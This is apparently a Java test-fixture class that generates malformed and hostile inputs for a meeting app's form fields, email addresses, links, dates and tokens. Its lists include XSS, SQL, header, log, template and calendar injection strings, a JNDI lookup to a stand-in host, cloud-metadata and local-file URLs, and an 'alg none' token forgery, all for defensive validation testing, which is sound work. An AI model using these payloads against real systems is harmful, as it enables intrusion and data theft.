package meetme.lambda;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;

/** What can go wrong with a value, class by class and case by case. The same seed gives the same values. */
final class BadInput {

    /** Stands in every value that a log line must not have. */
    static final String CANARY = "Zebulon4711";

    private final Random random;

    BadInput(long seed) {
        random = new Random(seed);
    }

    /**
     * What people and robots write into a field for text.
     *
     * @param longest in code points
     */
    Map<String, Object> text(int longest) {
        Map<String, Object> cases = new LinkedHashMap<>();
        cases.put("empty", "");
        cases.put("spaces", "   ");
        cases.put("NBSP", "\u00a0".repeat(25));
        cases.put("zero-width only", "\u200b\u200d\ufeff".repeat(10));
        cases.put("max", letters(longest));
        cases.put("max + 1", letters(longest + 1));
        cases.put("1 MiB", letters(1 << 20));
        cases.put("astral at max", "\ud83d\ude80".repeat(longest));
        cases.put("astral above max", "\ud83d\ude80".repeat(longest + 1));
        // Nothing that a letter could be joined with: 500 they are, and 500 they stay
        cases.put("500 combining marks", "x" + "\u0336".repeat(500) + letters(20));
        cases.put("combining marks at max", "x" + "\u0336".repeat(longest - 1));
        cases.put("an object", Map.of("text", CANARY));
        cases.put("an array", List.of(CANARY + " and some more words"));
        cases.put("a number", 4711);
        Map<String, String> inside = new LinkedHashMap<>();
        inside.put("combining marks in the wrong order", "e" + "\u0301\u0327".repeat(5));
        inside.put("cut emoji", "\ud83d\udc69\u200d");
        inside.put("NUL", "\u0000");
        inside.put("C0", "\u0007\u0008");
        inside.put("DEL", "\u007f");
        inside.put("U+0085", "\u0085");
        inside.put("U+2028", "\u2028");
        inside.put("U+2029", "\u2029");
        inside.put("CR", "\r");
        inside.put("LF", "\n");
        inside.put("CRLF", "\r\n");
        inside.put("CRLF and Bcc", "\r\nBcc: victim@example.net\r\n\r\n");
        inside.put("LF.LF", "\n.\n");
        inside.put("%0d%0a", "%0d%0aBcc: victim@example.net");
        inside.put("encoded-word CRLF", "=?UTF-8?Q?=0D=0ABcc:_victim=40example.net?=");
        inside.put("RLO", "\u202egpj.exe");
        inside.put("unclosed isolate", "\u2066");
        inside.put("homoglyphs", " \u0430\u0440\u0440\u04cf\u0435");
        inside.put("mixed script", "p\u0430yp\u0430l");
        inside.put("fullwidth <script>", "\uff1cscript\uff1ealert(1)");
        inside.put("lone high surrogate", "\ud83d");
        inside.put("lone low surrogate", "\ude80");
        inside.put("noncharacters", "\uffff\ufdd0");
        inside.put("tag characters", "\udb40\udc41\udb40\udc42");
        inside.put("NFC", "Ren\u00e9e");
        inside.put("NFD", "Rene\u0301e");
        inside.put("<script>", "<script>alert(1)</script>");
        inside.put("\"><img onerror", "\"><img src=x onerror=alert(1)>");
        inside.put("<a href>", "<a href=\"https://evil.example\">x</a>");
        inside.put("<style>", "</style><style>*{display:none}");
        inside.put("<base>", "<base href=https://evil.example/>");
        inside.put("<meta refresh>", "<meta http-equiv=refresh content=0>");
        inside.put("<!--[if mso]>", "<!--[if mso]><p>x</p><![endif]-->");
        inside.put("entity", "&lt;b&gt;&#x3c;script&#62;");
        inside.put("bare domain", "evil.example/free");
        inside.put("markdown link", "[click](https://evil.example)");
        inside.put("${jndi:}", "${jndi:ldap://evil.example/a}");
        inside.put("{{7*7}}", "{{7*7}} ${7*7} {0}");
        inside.put("%s%n", "%s%n%1$s");
        inside.put("=HYPERLINK(", "=HYPERLINK(\"https://evil.example\")");
        inside.put("'; --", "'; DROP TABLE requests; --");
        inside.put("forged log line", "\"}\n{\"level\":\"ERROR\",\"Alarm\":1}");
        inside.put("forged log line in one", "\"}{\"level\":\"ERROR\",\"Alarm\":1}");
        inside.put("ANSI", "\u001b[31mred\u001b[0m");
        inside.put("END:VEVENT + VALARM", "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nTRIGGER:-PT1M\r\nEND:VALARM");
        inside.put("END:VEVENT by \\n", "\\nEND:VEVENT\\nBEGIN:VALARM");
        inside.put(";,\\", ";,\\:\";N");
        inside.put("trailing backslash", "\\");
        inside.put("fold inside a code point", "a".repeat(1 + random.nextInt(4)) + "\ud83d\ude80\u00e9".repeat(20));
        inside.forEach((name, hostile) -> cases.put(
                name, "Hello from " + CANARY + hostile + (name.startsWith("trailing") ? "" : " " + letters(3))));
        return cases;
    }

    Map<String, Object> email(String unique) {
        Map<String, Object> cases = new LinkedHashMap<>();
        String local = CANARY + unique;
        String domain = "b".repeat(63) + "." + "c".repeat(63) + "." + "d".repeat(57) + ".net";
        for (String right : List.of(
                local + "?bcc=victim@example.net",
                local + "+twin@example.net",
                local.toUpperCase(Locale.ROOT) + "@EXAMPLE.NET",
                "a".repeat(63) + "@example.net",
                "a".repeat(64) + "@example.net",
                local + "!#$%&'*/=^_`{|}~-@example.net",
                local + "@b\u00fccher.example",
                local + "@xn--bcher-kva.example",
                "=?utf-8?q?x?=@example.net",
                "a".repeat(64) + "@" + domain, // 254 in all
                // Somebody who throws a mailbox away has one until then, and a list of such hosts is out of date at
                // once
                local + "@mailinator.com",
                // SES takes a mail to such an address, and keeps it to itself
                "suppressed@example.net",
                // Whoever tries the page first is the host, and before SES lets them out of its sandbox no other
                // address gets mail. ApiFunction is not told it, or the form would tell whoever guesses it.
                "host@example.com",
                "Host+twin@EXAMPLE.com")) {
            cases.put(right, right);
        }
        for (String wrong : List.of(
                "",
                local,
                "a@b@example.net",
                "<a@b>c@d.example",
                "Pat <" + local + "@example.net>",
                "a@example.net,b@example.net",
                "a@example.net;b@example.net",
                "." + local + "@example.net",
                local + ".@example.net",
                local + "..x@example.net",
                "\"" + local + "\"@example.net",
                local + "(comment)@example.net",
                "evil!" + local,
                "@relay.example:" + local + "@example.net",
                local + "%victim@[192.0.2.1]",
                local + "@192.0.2.1",
                local + "@[IPv6:::1]",
                local + "@localhost",
                local + "@example.invalid",
                local + "@printer.local",
                local + "@x.localhost",
                local + "@duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.ONION",
                local + "@1.2.0.192.in-addr.arpa",
                "meet@example.com",
                "Meet+twin@EXAMPLE.com",
                local + "@example",
                local + "@-example.net",
                "a".repeat(65) + "@example.net",
                "a".repeat(64) + "@d" + domain, // 255
                local + "@" + "\u00e4\u00f6\u00fc\u00e4\u00f6\u00fc.".repeat(18) + "net", // shorter as it is typed
                local + "@" + ("b".repeat(60) + ".").repeat(4) + "example.net",
                local + "\u00fc@example.net",
                local + "@example.net\r\nBcc: victim@example.net",
                local + "@example.net\u0000",
                "mailto:" + local + "@example.net",
                local + "@example.net?bcc=victim@example.net",
                local + "@exa mple.net",
                local + "@ex\u202eample.net",
                local + "@\uff45\uff58ample.net\u200b")) {
            cases.put("wrong: " + wrong, wrong);
        }
        cases.put("an object", Map.of("a", "b"));
        cases.put("an array", List.of(local + "@example.net"));
        return cases;
    }

    Map<String, Object> link() {
        List<String> links = new ArrayList<>(List.of(
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                "java\tscript:alert(1)",
                " javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "file:///etc/passwd",
                "http://example.net/" + CANARY,
                "//evil.example",
                "/\\evil.example",
                "https:\\\\evil.example",
                "https://good.example@evil.example/",
                "https://good.example:pw@evil.example/",
                "https://evil.example:8443/",
                "https://b\u00fccher.example/" + CANARY,
                "https://\u0430pple.example/",
                "https://2130706433/",
                "https://0x7f.1/",
                "https://127.0.0.1/",
                "https://[::1]/",
                "https://169.254.169.254/latest/meta-data/",
                "https://localhost/",
                "https://good.example/" + "a".repeat(1000),
                "https://good.example/%00",
                "https://good.example/%0d%0aBcc:",
                "https://good.example/?a=\"><script>",
                "https://good.example/'onclick='x/" + CANARY,
                "https://good.example/\u202egpj.exe",
                "https://good.example/?q=%22%3E%3Cscript%3E&amp;" + CANARY,
                "https://meet.example.com/decide#AQ",
                "https://good.example./",
                "https://",
                "https:good.example",
                "good.example/in/" + CANARY,
                "b\u00fccher.example/" + CANARY,
                "good.example@evil.example",
                "good.example\\@evil.example",
                "good.example:8443",
                "good.example:pw@evil.example",
                "javascript.example:alert(1)",
                "127.0.0.1",
                "169.254.169.254/latest/meta-data/",
                "localhost/.",
                "good.example/?next=javascript:alert(1)//" + CANARY,
                "good.example\u3002evil.example/" + CANARY,
                "pat@good.example",
                "HTTPS://GOOD.EXAMPLE/" + CANARY));
        Map<String, Object> cases = new LinkedHashMap<>();
        links.forEach(link -> cases.put(link, link));
        cases.put("an object", Map.of("a", "b"));
        return cases;
    }

    /** A day that is none, or none to come. */
    static final List<String> DAYS = List.of(
            "",
            "9999-12-31",
            "0000-01-01",
            "2027-02-29",
            "2026-13-01",
            "2026-00-10",
            "2026-12-32",
            "-2026-12-01",
            "+12026-12-01",
            "2026-12-01T10:00",
            "\u0662\u0660\u0662\u0666-\u0661\u0662-\u0660\u0661",
            "2026-W49-2",
            "1795379400",
            "2026-335",
            "01.12.2026",
            "2026-12-1",
            "2026-12-01Z",
            "2026-12-01\u0000");

    static final List<String> TIMES = List.of(
            "2026-12-03T24:00",
            "2026-12-03T23:59:60",
            "2026-12-03T10:00:00",
            "2026-12-03T10:00Z",
            "2026-12-03T10:00[Mars/Base]",
            "2026-12-03T10:00-07:00",
            "9999-12-31T10:00",
            "0000-01-01T10:00",
            "2026-13-03T10:00",
            "2026-12-03 10:00",
            "2026-12-03T\u0661\u0660:00",
            "2026-W49-4T10:00",
            "1796310000",
            "2026-12-03T10:60",
            "2026-12-03T1:00",
            "2026-12-03");

    String letters(int count) {
        StringBuilder letters = new StringBuilder(count);
        for (int i = 0; i < count; i++) {
            letters.append((char) ('a' + random.nextInt(26)));
        }
        return letters.toString();
    }

    /** Every spelling and forgery of a token that is good. */
    Map<String, Object> tokens(String good) {
        Map<String, Object> cases = new LinkedHashMap<>();
        cases.put("empty", "");
        for (int bit = 0; bit < 24; bit++) {
            int at = random.nextInt(good.length());
            char flipped = (char) (good.charAt(at) ^ (1 << random.nextInt(7)));
            cases.put("bit " + bit, good.substring(0, at) + flipped + good.substring(at + 1));
        }
        for (int cut : List.of(1, 2, 3, 4, 43, good.length() / 2, good.length() - 1)) {
            cases.put("short by " + cut, good.substring(0, good.length() - cut));
            cases.put("without the first " + cut, good.substring(cut));
        }
        for (String more : List.of("A", "AAAA", "=", "==", ".", ">", " ", "\n", "%3D", "\u0000", good)) {
            cases.put("extended by " + HexFormat.of().formatHex(more.getBytes(StandardCharsets.UTF_8)), good + more);
        }
        String letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        for (int bits : List.of(1, 2, 3)) {
            int last = letters.indexOf(good.charAt(good.length() - 1));
            cases.put("stray bits " + bits, good.substring(0, good.length() - 1) + letters.charAt(last ^ bits));
        }
        cases.put("space before", " " + good);
        cases.put("in capitals", good.toUpperCase(Locale.ROOT));
        cases.put("in small letters", good.toLowerCase(Locale.ROOT));
        cases.put("in the other base64", good.replace('-', '+').replace('_', '/') + "+/");
        cases.put("alg none", "eyJhbGciOiJub25lIn0." + good + ".");
        cases.put("10 KiB", "A".repeat(10 * 1024));
        cases.put("a number", 4711);
        cases.put("an array", List.of(good));
        cases.put("an object", Map.of("token", good));
        return cases;
    }

    /** As JSON, written by hand: no library writes half a character. */
    static String json(@Nullable Object value) {
        if (value instanceof Map<?, ?> map) {
            return map.entrySet().stream()
                    .map(entry -> json(entry.getKey()) + ":" + json(entry.getValue()))
                    .collect(Collectors.joining(",", "{", "}"));
        }
        if (value instanceof List<?> list) {
            return list.stream().map(BadInput::json).collect(Collectors.joining(",", "[", "]"));
        }
        if (value instanceof String text) {
            return text.chars()
                    .mapToObj(c -> c >= ' ' && c < 127 && c != '"' && c != '\\'
                            ? String.valueOf((char) c)
                            : "\\u%04x".formatted(c))
                    .collect(Collectors.joining("", "\"", "\""));
        }
        return String.valueOf(value);
    }
}
